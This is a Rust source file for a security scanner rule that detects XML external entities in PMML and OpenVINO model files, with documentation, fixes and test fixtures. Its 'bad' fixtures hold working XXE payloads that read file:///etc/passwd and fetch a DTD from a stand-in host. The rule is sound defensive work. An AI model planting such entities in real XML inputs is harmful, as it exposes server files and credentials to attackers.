use stance_core::Severity;
use stance_core::fact::{Artifact, ArtifactFormat};

use crate::{Cx, Rule};

rule! {
    /// # XML model that has its reader fetch something
    ///
    /// ## What it finds
    /// Entities, document types and inclusions in an XML model (PMML, OpenVINO) that name a file or an address.
    /// The published document types of PMML, and one that lies beside the model, are reported as low.
    ///
    /// ## Why it matters
    /// A reader that resolves entities opens what the document names with its own rights: a password file, a
    /// service of the internal network, the credentials of the cloud instance. What it read becomes part of the
    /// model or goes out with the next address. Scoring engines are XML readers on servers, and no tool that
    /// exports models writes entities.
    ///
    /// ## Example
    /// ```xml
    /// <!DOCTYPE PMML [<!ENTITY e SYSTEM "file:///etc/passwd">]>
    /// ```
    ///
    /// ## Fix
    /// Do not load the file. Where XML from others is read, switch off document types and external entities
    /// (`disallow-doctype-decl` in Java, `defusedxml` in Python).
    ///
    /// ## References
    /// - [OWASP: XML external entities](https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing)
    /// - [CWE-611: improper restriction of XML external entity reference](https://cwe.mitre.org/data/definitions/611.html)
    XmlExternalEntity {
        id: "model/xml-external-entity",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM02",
            "owasp-llm-2025:LLM03",
            "mitre-atlas:AML.T0011.000",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::text!(
                "model.pmml",
                r#"<!DOCTYPE PMML [<!ENTITY e SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header description="&e;"/></PMML>"#
            ),
            crate::text!(
                "model.xml",
                r#"<!DOCTYPE net [<!ENTITY % a SYSTEM "http://x.example/a.dtd"> %a;]><net name="a" version="11"><layers/></net>"#
            ),
        ],
        good: [
            crate::text!(
                "model.pmml",
                r#"<!DOCTYPE PMML [<!ENTITY company "Example &amp; Co">]><PMML version="4.4"><Header copyright="&company;"/></PMML>"#
            ),
            crate::text!(
                "model.pmml",
                r#"<PMML xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/v4-4/pmml-4-4.xsd" version="4.4"><Header/></PMML>"#
            ),
        ],
    }
}

impl Rule for XmlExternalEntity {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(matches!(artifact.format, ArtifactFormat::Pmml | ArtifactFormat::Openvino));
        if !matches!(
            artifact.format,
            ArtifactFormat::Pmml | ArtifactFormat::Openvino
        ) {
            return;
        }
        for external in &artifact.external {
            let draft = cx.report(
                &external.evidence,
                format!("Reading the document opens `{}`", external.location),
            );
            if is_document_type(&external.location, external.escapes) {
                draft.severity(Severity::Low);
            }
        }
    }
}

/// Whether this is a document type as tools of old wrote it.
fn is_document_type(location: &str, escapes: bool) -> bool {
    let published = ["http://www.dmg.org/", "https://www.dmg.org/", "http://dmg.org/", "https://dmg.org/"];
    published.iter().any(|host| location.starts_with(host))
        || !escapes && location.to_ascii_lowercase().ends_with(".dtd")
}
